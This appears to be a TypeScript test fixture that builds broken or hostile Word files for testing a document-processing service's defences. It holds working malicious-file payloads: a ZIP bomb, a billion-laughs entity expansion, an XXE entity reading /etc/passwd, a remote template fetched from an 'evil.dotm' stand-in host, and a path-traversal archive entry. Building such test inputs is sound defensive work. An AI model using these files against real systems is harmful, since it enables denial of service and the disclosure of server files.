import { randomBytes } from 'node:crypto'
import { tmpdir } from 'node:os'
import { strToU8, zipSync } from 'fflate'
import { contractText } from './files.ts'
import type { UglyFile } from './ugly-file.ts'

const paragraphs = contractText.split('\n').filter(Boolean)

/** An archive of these entries. */
export const zipOf = (entries: Record<string, string | Uint8Array>, level: 0 | 6 = 6) =>
  zipSync(
    Object.fromEntries(
      Object.entries(entries).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value]),
    ),
    { level },
  )

export const contentTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const relations =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
export const wordBody = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}</w:body></w:document>`
export const wordParagraphs = paragraphs.map((line) => `<w:p><w:r><w:t>${line}</w:t></w:r></w:p>`).join('')
const wordEntries = (document: string | Uint8Array) => ({
  '[Content_Types].xml': contentTypes,
  '_rels/.rels': relations,
  'word/document.xml': document,
})
export const wordFile = (document: string | Uint8Array, more: Record<string, string | Uint8Array> = {}) =>
  zipOf({ ...wordEntries(document), ...more })

/** Word files that are broken, or meant to break something. */
export function uglyWordFiles(): UglyFile[] {
  const [beforeZeros = '', behindZeros = ''] = wordBody('<w:p><w:r><w:t>|</w:t></w:r></w:p>').split('|')
  const zeros = Buffer.concat([Buffer.from(beforeZeros), Buffer.alloc(160_000_000, '0'), Buffer.from(behindZeros)])
  const laughs = Array.from(
    { length: 12 },
    (_, level) => `<!ENTITY l${level} "${level === 0 ? 'ha' : `&l${level - 1};`.repeat(10)}">`,
  ).join('')
  const external =
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
  return [
    {
      what: 'a ZIP bomb in Word clothes',
      bytes: wordFile(zeros),
      ends: 422,
      says: /unpacks to far more/,
    },
    {
      what: 'a Word file of six thousand parts',
      bytes: zipOf(
        {
          ...wordEntries(wordBody(wordParagraphs)),
          ...Object.fromEntries(Array.from({ length: 6000 }, (_, part) => [`word/media/${part}.bin`, 'x'])),
        },
        0,
      ),
      ends: 422,
    },
    {
      what: 'a Word file with macros',
      bytes: wordFile(wordBody(`<w:p><w:r><w:t>With macros</w:t></w:r></w:p>${wordParagraphs}`), {
        'word/vbaProject.bin': randomBytes(2000),
      }),
      name: 'a.docm',
      ends: 'completed',
    },
    {
      what: 'a Word file that fetches its template',
      bytes: wordFile(wordBody(`<w:p><w:r><w:t>With a template</w:t></w:r></w:p>${wordParagraphs}`), {
        'word/_rels/settings.xml.rels': external,
        'word/_rels/document.xml.rels': external,
      }),
      ends: 'completed',
    },
    {
      what: 'a Word file that wants to read a file of the server',
      bytes: wordFile(
        wordBody(
          `<w:p><w:r><w:t>&x;</w:t></w:r></w:p>${wordParagraphs}`,
          '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
      ),
      ends: 'any',
    },
    {
      what: 'a Word file that laughs a billion times',
      bytes: wordFile(wordBody(`<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>${wordParagraphs}`, `<!DOCTYPE w [${laughs}]>`)),
      ends: 'any',
    },
    {
      what: 'a Word file nested a thousand deep',
      bytes: wordFile(wordBody(`${'<w:tbl><w:tr><w:tc>'.repeat(1000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(1000)}`)),
      ends: 'any',
    },
    {
      what: 'a Word file without its document',
      bytes: zipOf({ '[Content_Types].xml': contentTypes, '_rels/.rels': relations, 'word/styles.xml': '<a/>' }),
      ends: 'any',
    },
    { what: 'a Word file of broken XML', bytes: wordFile('<w:document><w:body><w:p>'), ends: 'any' },
    { what: 'a Word file without words', bytes: wordFile(wordBody('<w:p/>')), ends: 'any', says: /no text/ },
    {
      what: 'a Word file with paths that climb',
      bytes: wordFile(wordBody(`<w:p><w:r><w:t>Climbs</w:t></w:r></w:p>${wordParagraphs}`), {
        [`../../../../..${tmpdir()}/karar-was-here`]: 'x',
      }),
      ends: 'any',
    },
  ]
}
